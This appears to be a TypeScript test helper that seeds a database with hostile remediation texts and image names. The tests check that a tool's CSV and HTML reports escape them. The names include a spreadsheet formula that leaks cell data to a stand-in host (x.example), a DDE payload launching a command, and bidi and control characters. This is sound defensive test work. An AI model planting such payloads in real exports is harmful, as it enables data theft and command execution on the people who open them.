/**
 * A synced world with four days of history for the report tests (runHistoryScenario), rule
 * descriptions made hostile (commas, quotes, CR LF, Chinese, markup) so the CSV and the page
 * meet them, and a way to run `report` through the CLI.
 */
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { main } from '../../src/cli.js';
import { captureIo } from './capture-io.js';
import {
  runHistoryScenario,
  type Snapshot,
  type SyncWorld,
  scenarioStartOffset,
  startSyncWorld,
} from './sync-world.js';

/** Appended to every stored remediation. */
export const HOSTILE_REMEDIATION = '\r\n修复：运行 "sysctl -w kernel.x=1", 然后 <b>重启</b> & 检查';

export interface ReportWorld {
  w: SyncWorld;
  snaps: Snapshot[];
  /** An instant after the third sync and before the last one. */
  asOf: Date;
  close(): Promise<void>;
}

export async function startReportWorld(opts: { imagesPerScope?: number } = {}): Promise<ReportWorld> {
  const w = await startSyncWorld({
    imagesPerScope: opts.imagesPerScope ?? 8,
    seed: 33,
    imageTypes: ['private_image', 'local_image'],
    enterpriseProjects: ['0', 'ep-2'],
    offsetMs: scenarioStartOffset(),
  });
  const snaps = await runHistoryScenario(w);
  await w.t.pool.query(`update hss_internal.rule_descriptions set remediation = remediation || $1`, [
    HOSTILE_REMEDIATION,
  ]);
  const asOf = new Date(snaps[2]!.finishedAt + 1000);
  return { w, snaps, asOf, close: () => w.close() };
}

/** A fresh parent directory; the report goes to `<parent>/out`. */
export function newOutDir(): string {
  return join(mkdtempSync(join(tmpdir(), 'hss-report-test-')), 'out');
}

/** Runs `hss-baseline-sync report …args` with DATABASE_URL = url. */
export async function runReport(url: string, args: string[]) {
  const cap = captureIo({ DATABASE_URL: url });
  const code = await main(['report', ...args], cap.io);
  return { code, out: cap.out(), err: cap.err() };
}

/** Every file of a directory: name → bytes. */
export function readDir(dir: string): Map<string, Buffer> {
  return new Map(
    readdirSync(dir)
      .sort()
      .map((name) => [name, readFileSync(join(dir, name))]),
  );
}

/** Image names an attacker or a careless upstream could give (formula, control, bidi, length). */
export const HOSTILE_NAMES = {
  formula: '=HYPERLINK("http://x.example/?leak="&A1,"Fix")',
  at: "@cmd|' /C calc'!A0",
  long: 'A'.repeat(30_000),
  bidi: '\u202eexe.txt\u202c مرحبا',
  controls: '\u001b[31mred\u0007\u0008',
} as const;

/**
 * Gives the first five images of `imageIds` the HOSTILE_NAMES (every reference of each, no
 * namespace, version `v1`): the listing is not part of the hash chain, so the chain stays intact.
 */
export async function makeHostileNames(
  w: SyncWorld,
  imageIds: readonly string[],
): Promise<Map<string, string>> {
  const names = Object.values(HOSTILE_NAMES);
  const given = new Map<string, string>();
  for (const [i, name] of names.entries()) {
    const id = imageIds[i];
    if (id === undefined) throw new Error(`need ${names.length} images, got ${imageIds.length}`);
    await w.t.pool.query(
      `update hss_internal.image_refs set image_name = $2, namespace = '', image_version = 'v1' where image_id = $1`,
      [id, name],
    );
    given.set(id, name);
  }
  return given;
}
